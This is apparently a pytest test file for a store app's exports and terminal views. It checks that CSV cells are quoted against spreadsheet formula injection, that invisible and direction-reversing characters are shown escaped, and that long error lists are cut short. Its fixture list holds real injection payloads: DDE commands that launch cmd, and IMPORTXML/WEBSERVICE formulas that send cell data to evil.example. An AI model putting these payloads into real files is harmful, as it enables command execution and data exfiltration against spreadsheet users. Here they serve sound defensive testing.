"""Store text stays data in every output: CSV cells a spreadsheet would run, direction
and zero-width characters in views and briefs, and problem lists of any length."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
import sample_store
from rich.console import Console
from textual.content import Content
from tui_helpers import dashboard, make_app, press, run_async, run_cli, screen_text, settle

from store import Repository, open_store
from store.exchange.export import export_csv, export_csv_files, export_document, export_json
from store.exchange.importing import import_path
from store.models import KIND_ORDER
from store.reading.brief import build_brief
from store.records.commands import Commands
from tui.brief import render, render_text
from tui.cli import print_problems
from tui.text import plain, reveal
from tui.views.base import TableView

# -- CSV: cells a spreadsheet would run ----------------------------------------------

# Every one of these would be a formula, or would lose its quote, if written as is.
FORMULAS = [
    '=HYPERLINK("http://evil.example","x")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"!A0")',
    "'=1+1",
    "'",
    "''",
    "'tis the season",
    "''=double",
    "-",
    "+",
    "=",
    "@",
    "-1",
    "-1.5",
    "+44 20 7946 0000",
    "@mention of the mediator",
    "=-=",
    "-=1",
    "'@x",
    "  =1+1 after spaces",
    " -x",
    "\uff1d1+1 full width",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "=\u202e1+1",
    "@@",
    "==",
]
# Long text fields may also start with a tab (one-line fields refuse it).
TAB_FORMULAS = ["\t=1+1", "\ttab first", "\t@x", "\t-1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

# Text fields of each kind to fill: (field, may hold a tab).
TEXT_FIELDS: dict[str, list[tuple[str, bool]]] = {
    "actor": [("name", False), ("description", True)],
    "person": [("name", False), ("title", False)],
    "source": [("outlet", False), ("title", False), ("url", False), ("reliability", True)],
    "track": [("title", False), ("description", True), ("region", False)],
    "round": [("title", False), ("outcome", True)],
    "point": [("title", False), ("description", True)],
    "position": [("stance", True), ("gist", False), ("quote", True)],
    "proposal": [("title", False), ("summary", True)],
    "event": [("title", False), ("text", True)],
    "assessment": [("analyst", False), ("affiliation", False), ("gist", True), ("quote", True)],
}


def formula_store(path: Path) -> Repository:
    """The sample, then every text field of every record given a formula-like value."""
    clock = sample_store.Clock()
    repo = open_store(path, clock=clock)
    sample_store.build(repo, clock)
    plain_values = iter(FORMULAS * 20)
    tab_values = iter(TAB_FORMULAS * 20)
    changed = []
    for kind in KIND_ORDER:
        for record in repo.list(kind):
            update: dict[str, Any] = {}
            for name, tab in TEXT_FIELDS[kind]:
                take_tab = tab and len(changed) % 3 == 0 and name not in update
                update[name] = next(tab_values) if take_tab else next(plain_values)
            changed.append(type(record).model_validate({**record.model_dump(), **update}))
    clock.set(2024, 8, 30)
    Commands(repo).put(changed)
    return repo


def test_formula_cells_are_quoted_and_round_trip(tmp_path: Path) -> None:
    with formula_store(tmp_path / "a.json") as repo:
        before = export_json(repo)
        # Every formula-like value is in the store, in more than one kind of record.
        stored = {
            str(v)
            for kind in KIND_ORDER
            for r in repo.list(kind)
            for v in r.model_dump().values()
            if isinstance(v, str)
        }
        assert set(FORMULAS) <= stored and set(TAB_FORMULAS) <= stored
        assert len(FORMULAS) >= 30
        folder = tmp_path / "csv"
        export_csv(repo, folder)
        first = export_csv_files(repo)
    # No cell of any file starts with a character a spreadsheet would run.
    cells = 0
    for name, text in first.items():
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                cells += 1
                assert not cell.startswith(DANGEROUS), (name, cell)
                assert not cell.lstrip(" ").startswith(DANGEROUS), (name, cell)
    assert cells > 100
    assert """'=HYPERLINK(""http://evil.example"",""x"")""" in "".join(first.values())
    with open_store(tmp_path / "b.json") as copy_repo:
        report = import_path(copy_repo, folder)
        assert report.ok, report.problems
        assert report.history_restored
        # Records and history come back exactly, and export to the same files again.
        assert export_json(copy_repo) == before
        assert export_csv_files(copy_repo) == first


def test_numbers_and_dates_are_written_bare_and_still_import(tmp_path: Path) -> None:
    clock = sample_store.Clock()
    with open_store(tmp_path / "a.json", clock=clock) as repo:
        sample_store.build(repo, clock)
        files = export_csv_files(repo)
    rows = list(csv.DictReader(io.StringIO(files["change.csv"])))
    assert rows[0]["seq"] == "1" and rows[0]["at"][:4] == "2024"
    # A negative number in a number column is a number, not text: no quote, and the
    # import reads it as the number (which the history then refuses as a reference).
    rows[-1]["undoes"] = "-3"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    folder = tmp_path / "csv"
    folder.mkdir()
    for name, text in {**files, "change.csv": out.getvalue()}.items():
        (folder / name).write_text(text, encoding="utf-8")
    with open_store(tmp_path / "b.json") as copy_repo:
        report = import_path(copy_repo, folder, dry_run=True, manifest=False)
    reasons = [str(p) for p in report.problems]
    assert reasons and all("undoes change -3" in r for r in reasons), reasons


def test_a_hand_made_cell_keeps_a_quote_that_guards_nothing(tmp_path: Path) -> None:
    clock = sample_store.Clock()
    with open_store(tmp_path / "a.json", clock=clock) as repo:
        sample_store.build(repo, clock)
        files = export_csv_files(repo)
    rows = list(csv.DictReader(io.StringIO(files["actor.csv"])))
    rows[0]["name"] = "'tis an actor"
    rows[1]["name"] = "'=guarded"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / "actor.csv").write_text(out.getvalue(), encoding="utf-8")
    with open_store(tmp_path / "b.json") as copy_repo:
        report = import_path(copy_repo, folder, manifest=False)
        assert report.ok, report.problems
        names = {a.id: a.name for a in copy_repo.list("actor")}
    assert names[rows[0]["id"]] == "'tis an actor"
    assert names[rows[1]["id"]] == "=guarded"


# -- invisible characters: kept as data, shown as escapes ----------------------------

# The characters that reorder or hide the text around them, each with its escape.
INVISIBLE = [
    *(chr(c) for c in range(0x202A, 0x202F)),
    *(chr(c) for c in range(0x2066, 0x206A)),
    *(chr(c) for c in range(0x200B, 0x2010)),
    "\u2028",
    "\u2029",
    "\ufeff",
    "\u061c",
    "\u2060",
]
EVIL_TITLE = "Corridor \u202eredisnoc\u202c end"
EVIL_DESCRIPTION = "zero\u200bwidth \u2066isolate\u2069 line\u2028break \ufeffbom"


@pytest.mark.parametrize("ch", INVISIBLE, ids=[f"U+{ord(c):04X}" for c in INVISIBLE])
def test_plain_and_reveal_escape_invisible_characters(ch: str) -> None:
    escape = f"\\u{ord(ch):04x}"
    for text in (f"a{ch}b", f"{ch}start", f"end{ch}", f"Ha{ch}mas"):
        for shown in (plain(text), plain(text, one_line=False), reveal(text)):
            assert ch not in shown and escape in shown, (text, shown)


def test_joiners_that_join_emoji_or_a_shaped_script_stay() -> None:
    kept = [
        "family 👨\u200d👩\u200d👧 joined",
        "❤\ufe0f\u200d🔥",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",  # Persian: a joiner between letters
    ]
    for text in kept:
        assert plain(text) == text and reveal(text) == text
    # Between Latin letters a joiner changes nothing anyone sees: it is escaped.
    assert plain("Ha\u200dmas") == "Ha\\u200dmas"
    assert plain("\u200d👨") == "\\u200d👨"


def test_reveal_keeps_lines_and_tabs_and_escapes_controls() -> None:
    assert reveal("a\n\tb\u202ec") == "a\n\tb\\u202ec"
    assert reveal("bell\x07") == "bell\\x07"
    assert reveal("plain text") == "plain text"


def evil_store(path: Path) -> Repository:
    clock = sample_store.Clock()
    repo = open_store(path, clock=clock)
    sample_store.build(repo, clock)
    point = repo.get("point", "corridor")
    changed = point.model_copy(update={"title": EVIL_TITLE, "description": EVIL_DESCRIPTION})
    Commands(repo).put([type(point).model_validate(changed.model_dump())])
    return repo


def test_the_store_keeps_invisible_characters_as_data(tmp_path: Path) -> None:
    path = tmp_path / "evil.json"
    with evil_store(path):
        pass
    with open_store(path) as repo:
        point = repo.get("point", "corridor")
        assert point.model_dump()["title"] == EVIL_TITLE
        assert point.model_dump()["description"] == EVIL_DESCRIPTION
        assert EVIL_TITLE in export_json(repo)
        files = export_csv_files(repo)
    assert EVIL_TITLE in files["point.csv"]


@pytest.mark.parametrize("fmt", ["text", "markdown", "html"])
def test_the_brief_shows_invisible_characters_escaped(tmp_path: Path, fmt: str) -> None:
    with evil_store(tmp_path / "evil.json") as repo:
        out = render(build_brief(repo, sample_store.TRACK), fmt, width=200)
        assert repo.get("point", "corridor").model_dump()["title"] == EVIL_TITLE
    for ch in "\u202e\u202c\u200b\u2066\u2069\u2028\ufeff":
        assert ch not in out, (fmt, f"U+{ord(ch):04X}")
    # Markdown escapes the backslash itself, so that the escape is read as text.
    slash = "\\\\" if fmt == "markdown" else "\\"
    assert f"Corridor {slash}u202eredisnoc{slash}u202c end" in out
    assert f"zero{slash}u200bwidth" in out


def test_the_terminal_brief_shows_invisible_characters_escaped(tmp_path: Path) -> None:
    buffer = io.StringIO()
    console = Console(file=buffer, width=200, force_terminal=True, color_system="truecolor")
    with evil_store(tmp_path / "evil.json") as repo:
        render_text(build_brief(repo, sample_store.TRACK), console)
    assert "\u202e" not in buffer.getvalue()
    assert "\\u202eredisnoc\\u202c" in buffer.getvalue()


@run_async
async def test_views_show_invisible_characters_escaped(tmp_path: Path) -> None:
    repo = evil_store(tmp_path / "evil.json")
    app = make_app(repo, track_id=sample_store.TRACK)
    shown = "Corridor \\u202eredisnoc\\u202c end"
    async with app.run_test(size=(200, 50)) as pilot:
        await settle(pilot)
        await press(pilot, "3")
        view = dashboard(app).active_view
        assert isinstance(view, TableView) and view.key == "points"
        cells = [c[0] if isinstance(c, tuple) else c for r in view.table.rows for c in r.cells]
        assert shown in cells
        assert not any("\u202e" in str(c) for c in cells)
        row = next(r for r in view.table.rows if r.key == "corridor")
        detail = view.detail(row.key)
        text = detail.plain if isinstance(detail, Content) else str(detail)
        assert shown in text and "zero\\u200bwidth" in text and "\u202e" not in text
        screen = screen_text(app)
        assert "\\u202eredisnoc" in screen and "\u202e" not in screen
    assert repo.get("point", "corridor").model_dump()["title"] == EVIL_TITLE
    repo.close()


# -- long problem lists: the first ones, then a count by kind ------------------------


def error_lines(err: str) -> list[str]:
    """What was printed on standard error, less the blank line the progress bar leaves."""
    return [line for line in err.split("\n") if line.strip()]


def bad_history_export(path: Path, undoing: int, redoing: int) -> Path:
    """A valid export with history entries that undo or redo a change after them."""
    clock = sample_store.Clock()
    with open_store(path.with_suffix(".store.json"), clock=clock) as repo:
        sample_store.build(repo, clock)
        document = export_document(repo)
    changes = document["changes"]
    template = changes[-1]
    first = template["seq"] + 1
    for n in range(undoing + redoing):
        seq = first + n
        which = "undoes" if n < undoing else "redoes"
        changes.append({**template, "seq": seq, "batch": None, "undoes": None, which: seq + 1})
    path.write_text(json.dumps(document), encoding="utf-8")
    return path


def test_a_long_problem_list_is_cut_and_counted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = bad_history_export(tmp_path / "bad.json", 2500, 500)
    db = str(tmp_path / "target.json")
    code, out, err = run_cli(["--db", db, "import", str(bad)], capsys)
    lines = error_lines(err)
    assert code == 1 and out == ""
    assert len(err.rstrip("\n").split("\n")) <= 60, len(lines)
    assert all("which is not an earlier change in the history" in x for x in lines[:50])
    assert lines[50] == "and 2,950 more (--all lists every one):"
    assert lines[51] == (
        "  2,450 × undoes: undoes change N, which is not an earlier change in the history"
    )
    assert lines[52] == (
        "  500 × redoes: redoes change N, which is not an earlier change in the history"
    )
    assert lines[-1] == f"parley: 3000 problem(s) in {bad}; nothing was imported"

    code_all, out, err = run_cli(["--db", db, "import", str(bad), "--all", "--dry-run"], capsys)
    lines = error_lines(err)
    assert code_all == code and out == ""
    assert len(lines) == 3001
    assert all("which is not an earlier change in the history" in x for x in lines[:-1])
    assert lines[-1] == f"parley: 3000 problem(s) in {bad}; nothing was imported"


def test_a_short_problem_list_is_printed_whole(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = bad_history_export(tmp_path / "bad.json", 50, 0)
    code, _, err = run_cli(["--db", str(tmp_path / "t.json"), "import", str(bad)], capsys)
    assert code == 1 and len(err.rstrip("\n").split("\n")) == 51 and "more" not in err


def test_problems_of_many_kinds_count_the_rarest_together() -> None:
    problems = [f"round 'r{i}': refers to missing actor 'a{i}'" for i in range(100)]
    problems += [f"change {i}: kind {k} is odd" for k in "abcdefgh" for i in range(3)]
    out = io.StringIO()
    print_problems(problems, show_all=False, file=out)
    lines = out.getvalue().splitlines()
    assert lines[:50] == problems[:50]
    assert lines[50] == "and 74 more (--all lists every one):"
    assert lines[51] == "  50 × round '…': refers to missing actor '…'"
    assert lines[-1] == "  9 of 3 other kinds"
    assert len(lines) == 50 + 1 + 6 + 1
    whole = io.StringIO()
    print_problems(problems, show_all=True, file=whole)
    assert whole.getvalue().splitlines() == problems


def test_check_takes_all(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store = str(tmp_path / "s.json")
    run_cli(["--db", store, "seed"], capsys)
    code, out, _ = run_cli(["--db", store, "check", "--all"], capsys)
    assert code == 0 and "no problems" in out
